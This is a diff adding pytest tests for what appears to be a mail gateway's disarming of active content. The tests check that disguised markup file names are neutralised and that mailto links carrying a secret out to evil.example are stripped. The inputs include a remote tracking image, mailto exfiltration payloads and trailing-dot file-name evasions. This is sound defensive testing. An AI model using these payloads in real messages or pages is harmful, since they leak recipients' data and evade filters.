@@ -1,0 +1,99 @@
+"""What nobody vouches for, opened: no name, no link, no second reading brings it back to life."""
+
+from __future__ import annotations
+
+import pytest
+
+from smimegw.mime.entity import Entity
+from smimegw.mime.inert_html import inert_html
+from smimegw.smime.disarm import disarm
+
+ARMED = b"\r\n\r\n<img src=http://evil.example/s>\r\n"
+
+
+def _part(fields: bytes) -> Entity:
+    return Entity.parse(fields + ARMED)
+
+
+@pytest.mark.parametrize(
+    "fields",
+    [
+        b'Content-Type: text/plain; name="a.html"',
+        b'Content-Type: text/plain\r\nContent-Disposition: inline; filename="a.htm"',
+        b'Content-Type: image/png; name="a.svg"',
+        b'Content-Type: message/delivery-status; name="a.eml"',
+        b'Content-Type: text/plain; name="a.txt"\r\nContent-Disposition: inline; filename="a.xml"',
+        b'Content-Type: text/plain; name="a.xml"\r\nContent-Disposition: inline; filename="a.txt"',
+    ],
+)
+def test_text_with_the_file_name_of_markup_is_an_attachment(fields: bytes) -> None:
+    """Some mail programs go by the name and not by the type (cases J03, L09)."""
+    result = disarm(_part(fields))
+    assert result.content_type.media_type == "application/octet-stream"
+    for field in result.header:
+        assert not field.body.rstrip(b'"').lower().endswith((b".html", b".htm", b".svg", b".xml"))
+
+
+@pytest.mark.parametrize(
+    "fields",
+    [
+        b'Content-Type: application/x-data; name="a.html."',
+        b'Content-Type: application/x-data; name="a.html "',
+        b'Content-Type: application/x-data; name="a.html. ."',
+        (
+            b'Content-Type: application/x-data; name="a.html"\r\n'
+            b'Content-Disposition: attachment; filename="a.dat"'
+        ),
+        (
+            b"Content-Type: application/octet-stream\r\n"
+            b'Content-Disposition: attachment; filename="a.SVG\xc2\xa0"'
+        ),
+    ],
+)
+def test_file_name_that_a_system_trims_to_markup_is_neutral(fields: bytes) -> None:
+    """Windows drops dots and spaces at the end; of two names each is somebody's (cases L09)."""
+    result = disarm(_part(fields))
+    assert result.content_type.media_type == "application/octet-stream"
+    (disposition,) = result.header.all("content-disposition")
+    assert disposition.body.rstrip(b'"').endswith((b".bin", b".dat"))
+
+
+@pytest.mark.parametrize("name", [b"notes.txt", b"photo.jpeg", b"README", b"a.html.txt"])
+def test_text_with_a_harmless_file_name_stays_as_it_is(name: bytes) -> None:
+    """The other side: nothing is changed without need."""
+    entity = _part(b'Content-Type: text/plain; name="' + name + b'"')
+    assert disarm(entity) is entity
+
+
+@pytest.mark.parametrize(
+    "address",
+    [
+        "mailto:eve@evil.example?body=SECRET",
+        "mailto:eve@evil.example&#63;body=SECRET",
+        "mailto:eve@evil.example,SECRET@evil.example",
+        "mailto:SECRET%40evil.example",
+        "mailto:eve@evil.example%3Fbody=SECRET",
+        "mailto:?bcc=eve@evil.example&body=SECRET",
+        "mailto:SECRET OF SOME WORDS@evil.example",
+        "MAILTO:eve@SECRET secret",
+    ],
+)
+def test_mail_address_carries_nothing_away(address: str) -> None:
+    """A click would open a mail to Eve with the text already in it (T-04, J03)."""
+    written = inert_html(f'<p>before <a href="{address}">write to me</a> after</p>')
+    assert "SECRET" not in written
+    assert "write to me" in written
+
+
+def test_plain_mail_address_can_be_clicked() -> None:
+    """It says whom, and nothing else."""
+    written = inert_html("<a href='mailto:bob.smith+x@partner.example'>Bob</a>")
+    assert written.count('<a href="mailto:bob.smith+x@partner.example">Bob</a>') == 1
+
+
+def test_image_comes_from_the_message_only() -> None:
+    """Each attribute takes its own kind of address."""
+    written = inert_html('<img src="mailto:eve@evil.example"><img src="cid:1@x"><a href="cid:2">')
+    assert "mailto" not in written
+    assert "cid:2" not in written
+    assert '<img src="cid:1@x">' in written
